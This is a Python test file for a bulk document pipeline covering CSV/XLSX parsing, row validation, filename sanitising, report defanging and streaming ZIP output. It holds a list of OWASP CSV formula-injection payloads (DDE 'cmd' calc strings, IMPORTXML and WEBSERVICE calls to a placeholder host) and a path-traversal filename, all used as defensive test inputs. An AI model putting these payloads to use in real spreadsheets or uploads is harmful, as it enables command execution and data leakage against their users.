"""Bulk inputs (CSV encodings, XLSX), per-row checks, filenames, the report and the streaming ZIP."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile

from tests.support.corpus import PUBLIC

import pytest
from openpyxl import Workbook

from pipelines.documents.archive import write_zip, zip_chunks
from pipelines.documents.errors import MissingColumns
from pipelines.documents.tabular import (
    FilenameAllocator, ReportWriter, check_columns, defang, is_formula, iter_rows, sanitize_stem, unescape_literal,
    validate_row,
)

CSV_DIR = PUBLIC / "csv"


def test_bom_and_crlf_header_reads_clean():
    columns, rows = iter_rows(CSV_DIR / "mailmerge_database_with_BOM.csv")
    assert columns == ["name", "email"]
    assert list(rows) == [{"name": "My Name", "email": "to@test.com"}]


def test_multilingual_csv_keeps_na_as_text():
    columns, rows = iter_rows(CSV_DIR / "country-codes.csv")
    rows = list(rows)
    assert len(columns) == 56 and len(rows) == 249
    assert rows[0]["official_name_ar"] == "أفغانستان" and rows[0]["official_name_cn"] == "阿富汗"
    namibia = next(r for r in rows if r["official_name_en"] == "Namibia")
    assert namibia["ISO3166-1-Alpha-2"] == "NA"


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16", "utf-8-sig", "utf-8"])
def test_common_encodings(tmp_path, encoding):
    path = tmp_path / "people.csv"
    path.write_bytes("first_name;city\r\nRenée;Besançon\r\nJosé;Málaga\r\n".encode(encoding))
    columns, rows = iter_rows(path)
    assert columns == ["first_name", "city"]
    assert list(rows) == [{"first_name": "Renée", "city": "Besançon"}, {"first_name": "José", "city": "Málaga"}]


def test_xlsx_rows(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["name", "amount", "code"])
    ws.append(["Ada", 12, "placeholder"])
    ws["C2"].value, ws["C2"].data_type = "=1+1", "s"  # text that looks like a formula (Excel: '=1+1)
    ws.append([None, None, None])
    ws.append(["Bob", 3.5, "NA"])
    wb.save(tmp_path / "in.xlsx")
    columns, rows = iter_rows(tmp_path / "in.xlsx")
    assert columns == ["name", "amount", "code"]
    assert list(rows) == [{"name": "Ada", "amount": "12", "code": "=1+1"}, {"name": "Bob", "amount": "3.5", "code": "NA"}]


def test_missing_columns_are_named():
    with pytest.raises(MissingColumns) as caught:
        check_columns(["name", "email"], ["name", "last_name", "city"])
    assert caught.value.code == "missing_columns" and caught.value.extra["missing"] == ["city", "last_name"]


def test_row_validation():
    assert validate_row({"name": "-Smith", "phone": "+44 20 7946 0958"}, ["name"]) is None
    assert validate_row({"name": " "}, ["name"]).code == "missing_values"
    assert validate_row({"name": "x" * (1024 * 1024 + 1)}, ["name"]).code == "cell_too_large"
    assert validate_row({"name": "bad \ufffd byte"}, ["name"]).code == "bad_encoding"


def test_bad_rows_fail_alone_in_a_mixed_csv(tmp_path):
    path = tmp_path / "mixed.csv"
    good = "Renée,renee@example.com\r\n".encode()
    path.write_bytes(b"name,email\r\n" + good + b",nobody@example.com\r\n" + "Zoë,z@example.com\r\n".encode("cp1252")
                     + b'"' + b"y" * (2 * 1024 * 1024) + b'",big@example.com\r\n' + b"=cmd|' /C calc'!A0,x@example.com\r\n")
    _, rows = iter_rows(path)
    verdicts = [validate_row(r, ["name"]) for r in rows]
    assert [v.code if v else "ok" for v in verdicts] == [
        "ok", "missing_values", "bad_encoding", "cell_too_large", "formula_injection"]


OWASP_CSV_INJECTION = [
    "=1+1", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "  =1+1", "\n-1+1",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")', "-A1", "+$B$2", "@C3", "+A1:B9", "-Sheet1!A1",
    "+_xlfn.WEBSERVICE(\"http://x\")", "-1*2", "+2^8", "-x=1", "@HYPERLINK(\"http://x\")",
]
LEGITIMATE = [
    "-Smith", "+44 20 7946 0958", "-12.5", "@handle", "@jane_doe", "+1 (555) 123-4567", "-1,234.50", "-3e+5",
    "-20%", "+33 6 12 34 56 78", "2024-01-05", "a=b", "Smith-Jones", "", " ", "-", "@", "--", "-Wow!",
    "-Smith (née Jones)", "+49 30/1234567", "@bob.smith", "-N/A", "Total = 12", "'=1+1", "-Smith & Sons",
]


@pytest.mark.parametrize("value", OWASP_CSV_INJECTION)
def test_formula_payloads_are_formulas(value):
    assert is_formula(value)
    problem = validate_row({"name": "Ada", "note": value}, ["name"])
    assert problem.code == "formula_injection"
    assert "'note'" in problem.message and "apostrophe" in problem.message


@pytest.mark.parametrize("value", LEGITIMATE)
def test_legitimate_values_are_not_formulas(value):
    assert not is_formula(value)
    assert validate_row({"name": "Ada", "note": value}, ["name"]) is None


def test_apostrophe_escapes_a_literal_formula():
    assert unescape_literal("'=1+1") == "=1+1" and unescape_literal("'-2+3") == "-2+3"
    assert unescape_literal("'tis") == "'tis" and unescape_literal("'-Smith") == "'-Smith"


def test_filenames_sanitized_and_unique():
    names = FilenameAllocator("{last_name}-{first_name}")
    assert names.allocate({"last_name": "Doe", "first_name": "Jo"}, 1, "docx") == "Doe-Jo.docx"
    assert names.allocate({"last_name": "doe", "first_name": "jo"}, 2, "docx") == "doe-jo-2.docx"
    assert names.allocate({"last_name": "Doe", "first_name": "Jo"}, 3, "docx") == "Doe-Jo-3.docx"
    assert names.allocate({"last_name": "../../etc", "first_name": "pa\x00ss\nwd"}, 4, "pdf") == "_.._etc-pa_ss_wd.pdf"
    assert names.allocate({"last_name": "", "first_name": ""}, 5, "docx") == "row-5.docx"
    assert sanitize_stem("CON") == "_CON" and sanitize_stem("lpt1.txt") == "_lpt1.txt"
    assert "/" not in sanitize_stem("a/b\\c") and "\\" not in sanitize_stem("a/b\\c")


def test_report_defangs_formula_cells():
    buffer = io.StringIO()
    report = ReportWriter(buffer)
    report.write(1, "failed", "missing_values", "=SUM(A1)", "-x.docx", "")
    report.write(2, "succeeded", "", "", "@a.docx", "ab" * 32)
    rows = list(csv.reader(io.StringIO(buffer.getvalue().lstrip("\ufeff"))))
    assert rows[0] == ["row", "status", "error_code", "error", "output_filename", "sha256"]
    assert rows[1][3] == "'=SUM(A1)" and rows[1][4] == "'-x.docx" and rows[2][4] == "'@a.docx"
    assert defang("\tcmd") == "'\tcmd" and defang("\rcmd") == "'\rcmd" and defang("plain") == "plain"


def test_streaming_zip_round_trip_and_bounded_memory(tmp_path):
    files = []
    for i in range(20):
        path = tmp_path / f"f{i}.bin"
        path.write_bytes(bytes([i]) * (512 * 1024))  # 10 MiB in all
        files.append((path, f"out/{i}.docx"))
    tracemalloc.start()
    with open(tmp_path / "all.zip", "wb") as out:
        size = write_zip(iter(files), out)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 4 * 1024 * 1024  # the 10 MiB archive never sat in memory
    with zipfile.ZipFile(tmp_path / "all.zip") as z:
        assert z.testzip() is None and len(z.namelist()) == 20
        assert z.read("out/7.docx") == bytes([7]) * (512 * 1024)
    assert size == (tmp_path / "all.zip").stat().st_size


def test_zip_chunks_asks_for_entries_lazily(tmp_path):
    asked = []

    def entries():
        for i in range(3):
            path = tmp_path / f"{i}.txt"
            path.write_text(f"row {i}")
            asked.append(i)
            yield path, f"{i}.txt"

    stream = zip_chunks(entries())
    next(stream)
    assert asked == [0]  # the second file is not requested before the first is streamed
    data = b"".join(stream)
    assert asked == [0, 1, 2] and data
